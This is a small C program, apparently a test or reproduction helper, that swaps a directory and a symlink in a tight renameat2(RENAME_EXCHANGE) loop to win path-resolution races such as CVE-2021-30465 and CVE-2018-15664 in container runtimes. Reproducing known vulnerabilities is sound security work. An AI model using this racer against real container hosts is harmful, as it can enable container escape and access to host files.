/* Exchanges two names (a directory and a symlink, say) with renameat2(RENAME_EXCHANGE) as fast as it
 * can, so that whoever resolves a path through them sees each at random (CVE-2021-30465, CVE-2018-15664):
 *   swap A B STOPFILE MAX_SECONDS  ->  "swapped N" at the end */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 5) return 2;
    time_t end = time(NULL) + atoi(argv[4]);
    unsigned long n = 0;
    printf("swapping\n");
    fflush(stdout);
    while (time(NULL) < end) {
        for (int i = 0; i < 1000; i++)
            if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) n++;
        if (access(argv[3], F_OK) == 0) break;
    }
    printf("swapped %lu\n", n);
    return 0;
}
